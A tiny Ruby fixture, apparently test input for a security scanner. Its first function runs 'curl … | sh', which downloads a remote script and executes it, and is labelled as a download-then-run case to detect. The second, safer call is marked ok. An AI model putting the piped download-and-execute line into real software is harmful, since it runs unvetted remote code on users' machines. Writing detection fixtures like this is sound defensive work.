def f1
  system('curl -s https://example.org/install.sh | sh')  # expect: code/download-then-run
end

def f2
  system('curl', '-s', url)  # ok
end
